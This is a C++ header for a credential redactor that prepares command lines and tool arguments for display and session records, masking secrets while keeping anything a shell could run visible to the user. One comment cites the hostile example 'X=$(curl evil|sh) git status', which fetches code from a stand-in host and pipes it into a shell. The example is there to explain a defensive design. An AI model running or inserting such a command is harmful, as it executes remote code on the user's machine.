#pragma once

#include "QuorvikCore/Text/VisibleText.h"

#include <optional>
#include <string>
#include <string_view>
#include <vector>

/// Makes a command line or a tool's argument fit to be shown on the island and kept in a session record: one
/// line, short, paths made short, and no credential left readable. Nothing here throws, and everything takes
/// time proportional to the text, whatever it holds. What is not UTF-8 counts as U+FFFD, in folders too.
namespace quorvik::Redactor {

/// The display-safe form of `text`: at most 80 characters (and some kilobytes), without line breaks and tabs,
/// always valid UTF-8.
///  - Paths below `projectDir` become relative, paths below the user's home folder begin with "~/".
///  - Values of secret-looking options, of authorization headers and of every NAME=value assignment, and
///    tokens in the known formats of some services, become "***" (SecretRule). Assignments on purpose all of
///    them: which variable holds a database's password is not to be seen from its name.
///  - Long tokens that look random become "***" (looksSecret).
std::string redact(std::string_view text, std::optional<std::string_view> projectDir = std::nullopt);

/// The redact() of every text that begins with `start`; absent when it depends on what follows. For callers
/// that would have to build a long text first.
std::optional<std::string> redactStart(std::string_view start,
                                       std::optional<std::string_view> projectDir = std::nullopt);

/// The credentials in a text of any length, in ascending order and without overlap: for a front end that
/// shows the whole text, with its line breaks, and marks what it hides. They are what redact() hides, but
///  - of assignments only the values of names that tell (SecretRule::credential): the user is to read the
///    others before deciding, and `x=1` in source code is no credential,
///  - of paths only their parts that look random,
/// and passwords in URLs besides.
///
/// The user must see whatever an "allow" would run. So a stretch ends where the text, read as a command line,
/// might be more than data: at whatever a shell would run or expand, and before a word that names a command
/// (see ShellReader). "X=$(curl evil|sh) git status" is shown as it is.
///
/// `text` should be UTF-8, so that stretches do not cut characters.
std::vector<VisibleText::Range> secrets(std::string_view text,
                                        std::optional<std::string_view> projectDir = std::nullopt);

/// Whether a token looks random: it holds a digit and a letter (ASCII), and the Shannon entropy of its
/// characters is at least 3.5 bits each. English words lie near 3, base64 above 4.
bool looksSecret(std::string_view token);

/// Every run of 21 or more of the characters A–Z a–z 0–9 + / _ = . - that looksSecret() replaced by "***".
std::string replaceHighEntropy(std::string_view text);

} // namespace quorvik::Redactor
